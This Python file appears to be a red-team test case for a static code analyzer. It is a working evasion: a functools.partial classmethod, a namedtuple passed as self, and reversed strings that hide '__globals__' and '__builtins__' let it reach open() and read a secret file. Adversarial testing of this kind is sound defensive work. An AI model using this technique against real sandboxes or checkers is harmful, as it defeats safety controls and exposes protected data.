# family: red team, round 22 (what a method's self may be: classes reaching parameters, methods run with any self)
# Chain: @functools.partial(classmethod) (a partial of the builtin classmethod) turns kind into a classmethod, but objects._class_value only counts a
# first parameter as a class when a decorator is *named* "classmethod"; `def kind(k): return k` hands out
# the class unnoticed, so k.fetch on a parameter is "bound" (objects._bound) and Reader.fetch runs with a
# namedtuple as self: its class-constant self.FIELDS is a run-time ["__globals__"].
import functools
from collections import namedtuple


def cm(f):
    return classmethod(f)


class Reader:
    FIELDS = ("name",)

    def fetch(self, fn):
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out

    @functools.partial(classmethod)
    def kind(k):
        return k


Box = namedtuple("Box", "FIELDS")


def call_read(k, obj, fn):
    return k.fetch(obj, fn)


def helper():
    return 1


def run():
    box = Box(["".join(reversed("__slabolg__"))])
    got = call_read(Reader.kind(), box, helper)[0]
    print(sorted(got.keys())[:8])
    b = got["".join(reversed("__snitliub__"))]
    print(b)
    print(getattr(b, "open")("/tmp/r22/work/secret.txt").read())


run()
